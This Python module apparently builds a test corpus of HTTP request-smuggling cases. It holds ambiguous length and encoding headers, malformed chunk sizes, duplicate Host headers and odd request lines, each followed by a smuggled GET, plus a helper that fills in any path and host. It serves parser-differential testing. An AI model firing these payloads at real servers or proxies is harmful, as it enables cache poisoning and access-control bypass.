"""Requests that two readers could understand differently, as research on request smuggling has collected them.

In each, `@P` stands for a path of the case's own and `@H` for the host. A smuggled request asks for `@P/smuggled`.
"""

from __future__ import annotations

from typing import Final

SMUGGLED: Final = b"GET @P/smuggled HTTP/1.1\r\nHost: @H\r\n\r\n"
TEXT: Final = b"Content-Type: text/plain\r\n"


def post(fields: bytes, body: bytes = b"", version: bytes = b"1.1") -> bytes:
    return b"POST @P HTTP/" + version + b"\r\nHost: @H\r\n" + TEXT + fields + b"\r\n" + body


def chunked(body: bytes) -> bytes:
    return post(b"Transfer-Encoding: chunked\r\n", body)


LENGTHS: Final = [
    *(
        b"+5",
        b"-5",
        b"0x5",
        b"5 ",
        b" 5",
        b"05",
        b"5,5",
        b"5, 6",
        b"5;6",
        b"5.0",
        b"5e0",
        b"",
        b"\xb2",
        b"5\x0b",
        b"5\x00",
    ),
    *(b"99999999999999999999", b"18446744073709551621", b"5\t", b"\t5", b'"5"', b"five", b"5\r\n 6"),
]
ENCODINGS: Final = [
    *(b"chunked ", b" chunked", b"Chunked", b"CHUNKED", b"xchunked", b"chunkedx", b"chunked;q=1", b"chunked, identity"),
    *(
        b"identity",
        b"gzip, chunked",
        b"chunked, chunked",
        b"chunked,",
        b",chunked",
        b"",
        b"\x0bchunked",
        b"chunked\x0b",
    ),
    *(
        b"chunked\x00",
        b'"chunked"',
        b"chu\tnked",
        b"chunked\r\n identity",
        b"\xc2\xa0chunked",
        b"compress",
        b"chunke\xe4",
    ),
]
LENGTH_NAMES: Final = [
    *(
        b"Content-Length ",
        b"Content-Length\t",
        b" Content-Length",
        b"Content_Length",
        b"Content-Length\x00",
        b"Content Length",
    ),
    *(b"content-LENGTH", b"Content-Length\xa0", b"\x00Content-Length", b"Content--Length", b"X\nContent-Length"),
]
ENCODING_NAMES: Final = [
    *(b"Transfer-Encoding ", b"Transfer-Encoding\t", b" Transfer-Encoding", b"Transfer_Encoding", b"Transfer Encoding"),
    *(b"TRANSFER-ENCODING", b"Transfer-Encoding\x00", b"X: y\rTransfer-Encoding", b"X: y\nTransfer-Encoding", b"te"),
]
SIZES: Final = [
    *(
        b"0x5",
        b"+5",
        b"-5",
        b" 5",
        b"5 ",
        b"5\t",
        b"05",
        b"0000000000000000005",
        b"5;a",
        b"5;a=b",
        b"5 ;a",
        b"5; a",
        b"5;",
    ),
    *(
        b"5\x00",
        b"5,",
        b"5\n",
        b"5\r",
        b"5;a\nb",
        b"5;a\rb",
        b"5;\x00",
        b'5;a="\r\n"',
        b"5_",
        b"g",
        b"",
        b"V",
        b"\xd9\xa5",
    ),
    *(b"100000000000000005", b"fffffffffffffffff5", b"ffffffff5", b"5" + b";a=b" * 2000),
]
ENDS: Final = [b"\n", b"\r", b"", b"X\r\n", b"\r\r\n", b"\n\r\n", b"\r\n\r\n"]
TRAILERS: Final = [
    *(
        b"X: y\r\n",
        b"Content-Length: 5\r\n",
        b"Transfer-Encoding: chunked\r\n",
        b"X\r\n",
        b" X: y\r\n",
        b"X: y\n",
        b"X : y\r\n",
    ),
    *(b"Host: other\r\n", b"X: \x00\r\n", b"\n", b"\r"),
]
HOSTS: Final = [
    b"Host: @H\r\nHost: @H\r\n",
    b"Host: @H\r\nhost: other.example.test\r\n",
    b"Host: @H, other\r\n",
    b"Host: @H#\r\n",
    b"Host: @H/x\r\n",
    b"Host : @H\r\n",
    b"Host:\r\n",
    b"X: y\r\n",
    b"Host: @H \r\n",
    b"Host: @H\r\n other\r\n",
    b"Host: @H\x00\r\n",
    b"Host: @H:443\r\n",
]
LINES: Final = [
    b"GET https://@H@P HTTP/1.1",
    b"GET http://other.example.test@P HTTP/1.1",
    b"GET @P HTTP/1.1 ",
    b"GET  @P HTTP/1.1",
    b"GET @P\tHTTP/1.1",
    b"GET @P HTTP/1.1\r",
    b"GET @P",
    b"GET @P HTTP/0.9",
    b"GET @P HTTP/1.2",
    b"GET @P HTTP/2.0",
    b"GET @P http/1.1",
    b"GET @P HTTP/1.1 HTTP/1.1",
    b"get @P HTTP/1.1",
    b"G\x00T @P HTTP/1.1",
    b"GET @P\x00 HTTP/1.1",
    b"GET @P#x HTTP/1.1",
    b"GET @P\xe9 HTTP/1.1",
    b"GET @P?a=\xff HTTP/1.1",
    b"GET * HTTP/1.1",
    b"OPTIONS * HTTP/1.1",
    b"CONNECT @H:443 HTTP/1.1",
    b"GET @P/../x HTTP/1.1",
    b"GET @P/%2e%2e/x HTTP/1.1",
    b"GET @P;x HTTP/1.1",
    b"GET @P//x HTTP/1.1",
    b"\r\nGET @P HTTP/1.1",
    b"\nGET @P HTTP/1.1",
    b" GET @P HTTP/1.1",
]
BOTH: Final = [
    b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
    b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n",
    b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n",
    b"Content-Length: 5\r\nContent-Length: 5\r\n",
    b"Content-Length: 5\r\nContent-Length: 6\r\n",
    b"Content-Length: 0\r\nContent-Length: 5\r\n",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n",
    b"Transfer-Encoding: chunked\r\nTransfer_Encoding: x\r\nContent_Length: 5\r\n",
    b"Content-Length: 5\r\nConnection: Content-Length\r\n",
    b"Transfer-Encoding: chunked\r\nConnection: Transfer-Encoding\r\n",
    b"Content-Length: 5\r\nExpect: 100-continue\r\n",
    b"Transfer-Encoding: chunked\r\nTrailer: Content-Length\r\nTE: trailers\r\n",
    b"Content-Length: 5\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n",
]
LAST: Final = b"0\r\n\r\n"

CASES: Final[tuple[bytes, ...]] = (
    *(post(b"Content-Length: " + value + b"\r\n", b"abcde" + SMUGGLED) for value in LENGTHS),
    *(post(b"Transfer-Encoding: " + value + b"\r\n", LAST + SMUGGLED) for value in ENCODINGS),
    *(post(b"Content-Length: 5\r\nTransfer-Encoding: " + value + b"\r\n", LAST + SMUGGLED) for value in ENCODINGS),
    *(post(name + b": 5\r\n", b"abcde" + SMUGGLED) for name in LENGTH_NAMES),
    *(post(b"Content-Length: 5\r\n" + name + b": 0\r\n", b"abcde" + SMUGGLED) for name in LENGTH_NAMES),
    *(post(name + b": chunked\r\n", LAST + SMUGGLED) for name in ENCODING_NAMES),
    *(post(b"Content-Length: 5\r\n" + name + b": chunked\r\n", LAST + SMUGGLED) for name in ENCODING_NAMES),
    *(chunked(size + b"\r\nabcde\r\n" + LAST + SMUGGLED) for size in SIZES),
    *(chunked(size + b"\r\n\r\n" + SMUGGLED) for size in (b"0", b"00", b"0x0", b"-0", b"0;a", b"0 ", b" 0", b"0\n")),
    *(chunked(b"5\r\nabcde" + end + LAST + SMUGGLED) for end in ENDS),
    *(chunked(b"5" + end + b"abcde\r\n" + LAST + SMUGGLED) for end in ENDS),
    *(chunked(b"0\r\n" + trailer + b"\r\n" + SMUGGLED) for trailer in TRAILERS),
    *(b"GET @P HTTP/1.1\r\n" + host + b"\r\n" + SMUGGLED for host in HOSTS),
    *(line + b"\r\nHost: @H\r\n\r\n" + SMUGGLED for line in LINES),
    *(post(fields, LAST + SMUGGLED) for fields in BOTH),
    post(b"Transfer-Encoding: chunked\r\n", LAST + SMUGGLED, b"1.0"),
    post(b"Content-Length: 5\r\n", b"abcde" + SMUGGLED, b"1.0"),
    post(b"Content-Length: 5\r\nConnection: keep-alive\r\n", b"abcde" + SMUGGLED, b"1.0"),
    post(b"", b"abcde" + SMUGGLED),
    post(b"", SMUGGLED),
    b"GET @P HTTP/1.1\r\nHost: @H\r\nContent-Length: 20\r\n\r\n" + SMUGGLED,
    b"HEAD @P HTTP/1.1\r\nHost: @H\r\nContent-Length: 5\r\n\r\nabcde" + SMUGGLED,
    b"DELETE @P HTTP/1.1\r\nHost: @H\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nabcde\r\n" + LAST + SMUGGLED,
    b"GET @P HTTP/1.1\nHost: @H\n\n" + SMUGGLED,
    b"GET @P HTTP/1.1\r\nHost: @H\r\nX: y\n\r\n" + SMUGGLED,
    b"GET @P HTTP/1.1\r\nHost: @H\r\nX: y\r\r\n\r\n" + SMUGGLED,
    b"GET @P HTTP/1.1\r\nHost: @H\r\n\nX: y\r\n\r\n" + SMUGGLED,
    b"GET @P HTTP/1.1\r\nHost: @H\r\nX: y\r\n\tz\r\n\r\n" + SMUGGLED,
    b"GET @P HTTP/1.1\r\nHost: @H\r\nConnection: close\r\n\r\n" + SMUGGLED,
    b"GET @P HTTP/1.1\r\nHost: @H\r\nConnection: close, close\x00\r\n\r\n" + SMUGGLED,
)


def filled(case: bytes, path: str, host: str) -> bytes:
    """A case for this path and host."""
    return case.replace(b"@P", path.encode()).replace(b"@H", host.encode())
